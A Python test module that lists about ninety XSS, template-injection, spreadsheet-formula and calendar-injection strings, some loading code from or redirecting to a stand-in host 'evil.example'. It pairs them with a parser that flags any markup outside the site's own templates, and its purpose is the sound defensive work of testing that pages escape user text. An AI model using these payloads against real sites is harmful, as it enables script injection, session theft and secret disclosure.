"""Texts that try to run a script on the site, and a parser that finds out whether one came through.

They follow OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's cheat sheet and html5sec.org. Each would set `pwned`;
short ones fit a title (70), a display name (50) or a topic (30).
"""

import json
import re
from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

PAYLOADS: Final[tuple[str, ...]] = (
    # elements
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<img/src/onerror=pwned=1>",
    "<svg/onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x>",
    "<svg><a xlink:href=javascript:pwned=1><text>x",
    "<math><mi//xlink:href='data:x,<script>pwned=1</script>'>",
    "<iframe src=javascript:pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<object data=javascript:pwned=1>",
    "<embed src=data:text/html,<script>pwned=1</script>>",
    "<details open ontoggle=pwned=1>",
    "<video><source onerror=pwned=1>",
    "<audio src=x onerror=pwned=1>",
    "<body onload=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<a href=javascript:pwned=1>x</a>",
    "<form action=javascript:pwned=1><button>x",
    "<button formaction=javascript:pwned=1>x",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<dialog open onclose=pwned=1>",
    "<plaintext>",
    "<x onclick=pwned=1 tabindex=1 autofocus>",
    # out of an attribute, an element, a comment, a script
    '"><script>pwned=1</script>',
    "'><img src=x onerror=pwned=1>",
    '" autofocus onfocus=pwned=1 x="',
    "' onmouseover=pwned=1 x='",
    "` onerror=pwned=1 `",
    "</title><svg/onload=pwned=1>",
    "</textarea><svg/onload=pwned=1>",
    "</script><script>pwned=1</script>",
    "<!--<script>",
    "--><svg/onload=pwned=1><!--",
    "]]><svg/onload=pwned=1>",
    '\\"};pwned=1;//',
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "'-pwned=1-'",
    "${pwned=1}",
    "\u2028pwned=1//",
    # templates
    "{{7*7}}{{constructor.constructor('pwned=1')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{{ config.secret }}{{ call.settings.secret }}",
    "{0.__class__} %(secret)s #{pwned=1} <%= pwned=1 %>",
    # addresses
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "java\tscript:pwned=1",
    "\x01javascript:pwned=1",
    "javascript://example.org/%0apwned=1",
    "data:text/html,<script>pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:pwned(1)",
    "//evil.example/x",
    'https://example.org/"onmouseover=pwned=1',
    "https://example.org/<svg/onload=pwned=1>",
    "https://a@evil.example/i/spaces/s_1",
    "[x](javascript:pwned=1)",
    '@"onclick=pwned=1 #"onclick=pwned=1',
    # Unicode and what is already escaped
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "\u202e>tpircs/<1=denwp>tpircs<",
    "\u0645\u0631\u062d\u0628\u0627<svg/onload=pwned=1>",
    "<\u017fcript>pwned=1</\u017fcript>",
    "<svg\u00a0onload=pwned=1>",
    "\ud800<svg/onload=pwned=1>",
    "e\u0301\u0301\u0301\u0301<img src=x onerror=pwned=1>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<svg/onload=pwned=1>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;svg/onload=pwned=1&#62;",
    "%3Csvg/onload=pwned=1%3E",
    "x" * 40 + "<svg/onload=pwned=1>",
    "<" * 60,
    "<svg/onload=" + "pwned=1;" * 90 + ">",
    # spreadsheets and calendars
    '=HYPERLINK("//evil.example","x")',
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+9)*cmd|'/c calc'!A1",
    "\t=1+1",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:pwned",
    "x\nATTENDEE:mailto:evil@example.org",
    'x;ALTREP="//evil.example":y,z\\',
)

# Every element and attribute of our templates; any other one came from a text.
_ELEMENTS: Final = """html head meta title link script body div header main nav footer section article aside h1 h2 h3 p
 a strong em ul ol li time noscript img figure figcaption dl dt dd span br audio source track form label input button
 small i"""
_ATTRIBUTES: Final = """charset name content property lang rel href type id src class aria-label aria-hidden
 aria-labelledby datetime role alt width height sizes hreflang dir target controls preload media crossorigin action
 method for value title itemprop itemscope itemtype download color as
 min max step autoplay hidden defer kind srclang label"""
ELEMENTS: Final = frozenset(_ELEMENTS.split())
ATTRIBUTES: Final = frozenset(_ATTRIBUTES.split())
SCRIPTS: Final = frozenset({"importmap", "application/json", "module", "application/ld+json"})
# The one script without a type, which reloads a page whose modules did not load.
RECOVERY: Final = re.compile(r"/[\w./-]+/app/recover\.js")
SAFE: Final = frozenset({"", "http", "https", "mailto"})  # schemes that lead to a page and run nothing


class Page(HTMLParser):
    """A parsed page. `harms` is what no template of ours contains, `data` the JSON in it, and `texts` its text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.harms: list[str] = []
        self.data: list[str] = []
        self.texts: list[str] = []
        self.values: list[str] = []
        self._script: str | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.values += given.values()
        if tag not in ELEMENTS:
            self.harms.append(f"<{tag}>")
        self.harms += [f"<{tag} {name}>" for name in given if name not in ATTRIBUTES]
        if tag == "script":
            self._script = given.get("type")
            known = self._script in SCRIPTS or (self._script is None and RECOVERY.fullmatch(given.get("src", "")))
            self.harms += [] if known else [f"a script of the type {self._script}"]
        for name in ("href", "src", "action"):
            if name in given and scheme(given[name]) not in SAFE:
                self.harms.append(f"<{tag} {name}={given[name]!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is None:
            self.texts.append(data)
            return
        self.data.append(data)
        try:
            json.loads(data or "{}")
        except ValueError:
            self.harms.append(f"a script that is not JSON: {data[:60]}")

    def handle_comment(self, data: str) -> None:
        self.harms.append(f"<!--{data[:60]}")

    def unknown_decl(self, data: str) -> None:
        self.harms.append(f"<![{data[:60]}")

    def handle_pi(self, data: str) -> None:
        self.harms.append(f"<?{data[:60]}")


def scheme(address: str) -> str:
    """Return the scheme as a browser reads it, without ignored control characters and spaces (URL Standard, 4.4)."""
    return urlsplit(re.sub(r"[\x00-\x20]+", "", address)).scheme.lower()
